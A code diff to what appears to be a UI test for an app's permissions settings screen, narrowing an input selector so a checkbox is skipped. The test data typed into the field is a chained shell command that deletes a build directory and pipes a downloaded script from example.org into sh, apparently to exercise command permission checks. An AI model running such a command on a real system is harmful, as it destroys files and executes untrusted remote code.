@@ -196,7 +196,10 @@ export const screens: readonly ScreenVisit[] = [
       await goTo(stage, '#/chat');
       await goTo(stage, '#/settings/permissions');
       const { page } = stage;
-      await page.locator('main form input').last().fill('git status && rm -rf build; curl example.org | sh');
+      await page
+        .locator('main form input:not([type="checkbox"])')
+        .last()
+        .fill('git status && rm -rf build; curl example.org | sh');
       await page.locator('main form button[type="submit"]').last().press('Space');
       await page.locator('main [role="status"] ul li').first().waitFor();
     },
